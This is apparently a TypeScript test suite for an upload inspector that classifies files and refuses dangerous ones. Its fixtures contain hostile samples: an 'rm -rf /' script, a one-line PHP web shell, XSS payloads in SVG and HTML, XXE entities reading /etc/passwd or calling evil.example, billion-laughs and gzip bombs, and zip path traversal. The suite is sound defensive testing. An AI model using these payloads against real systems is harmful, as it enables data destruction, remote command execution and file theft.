import { Readable } from 'node:stream';
import { DatabaseSync } from 'node:sqlite';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { describe, expect, test } from 'vitest';
import { makeWorkbook, makeZip } from '../../../test/support/make-zip.ts';
import { inspectUpload, type UploadKind } from './inspect-upload.ts';
import { withReceivedUpload } from './receive-upload.ts';

const ALL: readonly UploadKind[] = [
  'json',
  'geojson',
  'table',
  'text',
  'markup',
  'database',
  'office',
  'document',
  'photo',
  'picture',
  'media',
  'unknown',
];

/** What the content is, or the code of the refusal. */
function inspect(content: Uint8Array | string, takes = ALL): Promise<string> {
  return withReceivedUpload(Readable.from([Buffer.from(content)]), async (upload) => {
    const inspected = await inspectUpload(upload, takes);
    return inspected.ok ? inspected.value : inspected.refusal.code;
  });
}

const hex = (digits: string, length = 64) =>
  Buffer.concat([Buffer.from(digits.replaceAll(' ', ''), 'hex'), Buffer.alloc(length)]);
const utf16 = (text: string, mark = '\ufeff') => Buffer.from(mark + text, 'utf16le');
const bigEndian = (text: string) => utf16(text, '').swap16();
const latin1 = (text: string) => Buffer.from(text, 'latin1');

function aDatabase(): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'platsbild-inspect-'));
  const path = join(folder, 'a.gpkg');
  const database = new DatabaseSync(path);
  database.exec('create table a (b)');
  database.close();
  const bytes = readFileSync(path);
  rmSync(folder, { recursive: true });
  return bytes;
}

async function aWorkbook(): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('Blad');
  for (let row = 0; row < 2000; row++) sheet.addRow([row, `Plats ${row}`, row * 7.5]);
  return Buffer.from(await book.xlsx.writeBuffer());
}

describe('ordinary files are what their content is', () => {
  test.each<[string, string | Buffer, UploadKind]>([
    ['CSV', 'id,name\n1,Torget\n', 'table'],
    ['CSV of semicolons with a mark', '\ufeffid;namn\r\n1;Åsö\r\n', 'table'],
    ['CSV in windows-1252', latin1('id;namn\n1;Åsö torg\n'), 'table'],
    ['CSV in UTF-16', utf16('id\tnamn\n1\tÅsö\n'), 'table'],
    ['CSV whose head could be a picture', 'BMX,name\n1,Torget\n', 'table'],
    ['CSV whose head could be a program', 'MZ,name\n1,Torget\n', 'table'],
    ['CSV cut in a letter where the head ends', `a,b\n${'å'.repeat(40_000)}`, 'table'],
    ['NDJSON', '{"code":"1"}\n{"code":"2"}\n', 'json'],
    ['GeoJSON', ' {"type": "FeatureCollection", "features": []}', 'geojson'],
    ['a text sequence', '\u001e{"type":"Feature"}\n', 'geojson'],
    ['one word', 'Torget', 'text'],
    ['nothing', '', 'text'],
    ['SQLite', aDatabase(), 'database'],
    ['PDF', '%PDF-1.7\n', 'document'],
    [
      'OSM',
      '<?xml version="1.0" encoding="UTF-8"?><osm><node id="1"><tag k="url" v="http://a"/></node></osm>',
      'markup',
    ],
    ['GPX', '<gpx><metadata><link href="http://a.example"/></metadata></gpx>', 'markup'],
    ['a drawing', '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0L9 9"/><use href="#a"/></svg>', 'markup'],
    ['a photo', hex('ffd8ffe0 0010 4a464946'), 'photo'],
    ['a photo of a phone', hex('00000018 66747970 68656963 00000000 68656963'), 'picture'],
    ['sound', hex('52494646 24000000 57415645 666d7420'), 'media'],
    ['bytes', hex('0102030405060708'), 'unknown'],
  ])('%s', async (_what, content, kind) => {
    expect(await inspect(content)).toBe(kind);
  });

  test('a workbook', async () => {
    expect(await inspect(await aWorkbook())).toBe('office');
    expect(await inspect(makeWorkbook())).toBe('office');
  });

  test('a table of a spreadsheet program that is free', async () => {
    const mimetype = { name: 'mimetype', content: 'application/vnd.oasis.opendocument.spreadsheet', stored: true };
    const others = ['content.xml', 'META-INF/manifest.xml'].map((name) => ({ name, content: '<a/>' }));
    expect(await inspect(makeZip([mimetype, ...others]))).toBe('office');
  });

  test('what is ordinary but not wanted here is refused as that', async () => {
    expect(await inspect(hex('ffd8ffe0 0010 4a464946'), ['table'])).toBe('upload-kind-not-taken');
    expect(await inspect('id,name\n', ['table'])).toBe('table');
  });
});

const zipOf = (content: string | Uint8Array, name = 'a.txt') => makeZip([{ name, content }]);
const puffed = Buffer.alloc(40_000_000, 'a');

describe('what could run is refused', () => {
  test.each<[string, string | Buffer, string]>([
    ['a program for Windows', hex('4d5a9000030000000400'), 'upload-executable'],
    ['a program for Linux', hex('7f454c46 0201'), 'upload-executable'],
    ['a program for Mac', hex('cffaedfe'), 'upload-executable'],
    ['a class of Java', hex('cafebabe 0000'), 'upload-executable'],
    ['WebAssembly', hex('0061736d 01000000'), 'upload-executable'],
    ['a shortcut', hex('4c000000 01140200'), 'upload-executable'],
    ['a package', Buffer.concat([Buffer.from('!<arch>\ndebian-binary   '), Buffer.alloc(60)]), 'upload-executable'],
    ['a shell script', '#!/bin/sh\nrm -rf /\n', 'upload-script'],
    ['PHP', '<?php system($_GET[0]);', 'upload-script'],
    ['a batch file', '@echo off\r\ndel *', 'upload-script'],
    ['a registry file', 'Windows Registry Editor Version 5.00\n', 'upload-script'],
    ['a shell script in UTF-16', utf16('#!/bin/sh'), 'upload-script'],
    ['an older workbook', hex('d0cf11e0 a1b11ae1'), 'upload-old-office'],
    ['rich text', '{\\rtf1 {\\object}}', 'upload-old-office'],
    ['a web page', '<!doctype html><p>', 'upload-markup-active'],
    ['a web page after a comment', `<!-- it's --><html>`, 'upload-markup-active'],
    [
      'a script in XML',
      `<a><b/><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></a>`,
      'upload-markup-active',
    ],
    ['a style from elsewhere', '<?xml-stylesheet href="http://evil.example/a.xsl"?><a/>', 'upload-markup-active'],
    ['a picture with a handler', '<img src=x onerror=alert(1)>', 'upload-markup-active'],
  ])('%s', async (_what, content, code) => {
    expect(await inspect(content)).toBe(code);
  });

  test.each([
    '<svg><script>alert(1)</script></svg>',
    '<svg onload="alert(1)"/>',
    '<svg><g\nonclick\n=\n"alert(1)"/></svg>',
    '<svg><a href="javascript:alert(1)"/></svg>',
    '<svg><a xlink:href=" &#106;avascript:alert(1)"/></svg>',
    '<svg><image href="http://evil.example/a.png"/></svg>',
    '<svg><use href="data:image/svg+xml,a#b"/></svg>',
    '<svg><foreignObject><b/></foreignObject></svg>',
    '<svg><style>@import "http://evil.example"</style></svg>',
    '<svg><rect style="fill:url(http://evil.example/#a)"/></svg>',
    '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    `<svg><!-- ' --><script/><!-- ' --></svg>`,
    `<a:svg xmlns:a="http://www.w3.org/2000/svg"><a:script/></a:svg>`,
    `<svg><desc>${'x'.repeat(70_000)}</desc><script/></svg>`,
    `<svg>${' '.repeat(65_530)}<script/></svg>`,
  ])('a drawing: %#', async (svg) => {
    expect(await inspect(svg)).toBe('upload-markup-active');
    expect(await inspect(utf16(svg))).toBe('upload-markup-active');
    expect(await inspect(bigEndian(svg))).toBe('upload-markup-active');
  });
});

describe('what reaches out or grows is refused', () => {
  const LAUGHS = `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><lolz>&lol2;</lolz>`;
  test.each<[string, string | Buffer]>([
    ['a billion laughs', `<?xml version="1.0"?>${LAUGHS}`],
    ['an entity of another file', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/x.dtd"> %b;]><a/>'],
    ['a declaration after a comment', `<!-- "' --><!doctype a SYSTEM "http://evil.example"><a/>`],
    ['a declaration far in', `<!--${'x'.repeat(200_000)}--><!DOCTYPE a><a/>`],
    ['a declaration in UTF-16', utf16(LAUGHS)],
    ['a declaration in UTF-16 without a mark', bigEndian(LAUGHS)],
    ['a declaration hidden by an encoding', '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-'],
  ])('%s', async (_what, content) => {
    expect(await inspect(content)).toBe('upload-xml-entities');
    const inside = Buffer.from(content);
    expect(await inspect(makeWorkbook([{ name: 'xl/sharedStrings.xml', content: inside }]))).toBe(
      'upload-xml-entities',
    );
  });
});

describe('what is packed is refused, or looked through', () => {
  test.each<[string, Buffer, string]>([
    ['a zip', zipOf('hello'), 'upload-archive'],
    ['an empty zip', makeZip([]), 'upload-archive'],
    ['a zip cut off', makeWorkbook().subarray(0, 200), 'upload-archive'],
    ['gzip', gzipSync('id,name\n'), 'upload-archive'],
    ['a gzip bomb', gzipSync(puffed), 'upload-archive'],
    ['7z', hex('377abcaf271c'), 'upload-archive'],
    ['rar', hex('526172211a0700'), 'upload-archive'],
    ['xz', hex('fd377a585a00'), 'upload-archive'],
    ['tar', Buffer.concat([Buffer.alloc(257), Buffer.from('ustar\x0000'), Buffer.alloc(400)]), 'upload-archive'],
    ['a program of Java', makeZip([{ name: 'META-INF/MANIFEST.MF', content: 'a' }]), 'upload-archive'],
    ['a zip of zips', zipOf(zipOf(zipOf('a'), 'b.zip'), 'c.zip'), 'upload-archive'],
    ['a workbook with a zip', makeWorkbook([{ name: 'xl/a.bin', content: zipOf('a') }]), 'upload-archive'],
    ['a workbook with gzip', makeWorkbook([{ name: 'xl/a.bin', content: gzipSync('a') }]), 'upload-archive'],
    [
      'a workbook with a program',
      makeWorkbook([{ name: 'xl/media/a.png', content: hex('7f454c46') }]),
      'upload-executable',
    ],
    ['a way out', makeWorkbook([{ name: 'xl/../../etc/passwd', content: 'a' }]), 'upload-archive'],
    ['a way out on Windows', makeWorkbook([{ name: 'xl\\..\\a', content: 'a' }]), 'upload-archive'],
    ['a name that stands twice', makeWorkbook([{ name: 'XL/workbook.xml', content: 'a' }]), 'upload-archive'],
    ['a locked workbook', makeWorkbook([{ name: 'xl/a', content: 'a', flags: 1 }]), 'upload-archive'],
    ['macros by name', makeWorkbook([{ name: 'xl/vbaProject.bin', content: 'a' }]), 'upload-macro'],
    [
      'macros by another name',
      makeWorkbook([{ name: 'xl/innocent.bin', content: hex('d0cf11e0a1b11ae1') }]),
      'upload-macro',
    ],
    ['macros by type', makeWorkbook([], 'sheet.macroEnabled.main+xml'), 'upload-macro'],
    ['macros of older sheets', makeWorkbook([{ name: 'xl/macrosheets/sheet1.xml', content: '<a/>' }]), 'upload-macro'],
    ['a button', makeWorkbook([{ name: 'xl/activeX/activeX1.xml', content: '<a/>' }]), 'upload-macro'],
    ['a workbook that puffs up', makeWorkbook([{ name: 'xl/a.xml', content: puffed }]), 'upload-bomb'],
    ['one that lies of its size', makeWorkbook([{ name: 'xl/a.xml', content: puffed, toldBytes: 100 }]), 'upload-bomb'],
    [
      'one that lies over itself',
      makeWorkbook([
        { name: 'xl/a.bin', content: Buffer.from('0123456789').toString().repeat(30), stored: true },
        ...Array.from({ length: 50 }, (_, at) => ({
          name: `xl/${at}.bin`,
          content: '0123456789'.repeat(30),
          stored: true,
          overlaps: true,
        })),
      ]),
      'upload-bomb',
    ],
  ])('%s', async (_what, content, code) => {
    expect(await inspect(content)).toBe(code);
  });

  test('a directory that cannot be true is a no, wherever it lies', async () => {
    const good = makeWorkbook();
    const found = new Set<string>();
    for (let at = 0; at < good.length; at++) {
      const damaged = Buffer.from(good);
      damaged[at] ^= 0xff;
      found.add(await inspect(damaged));
    }
    const known = ['office', 'upload-archive', 'upload-bomb', 'upload-macro', 'upload-xml-entities', 'unknown'];
    expect([...found].filter((answer) => !known.includes(answer))).toEqual([]);
    expect(found.has('upload-archive')).toBe(true);
  });
});
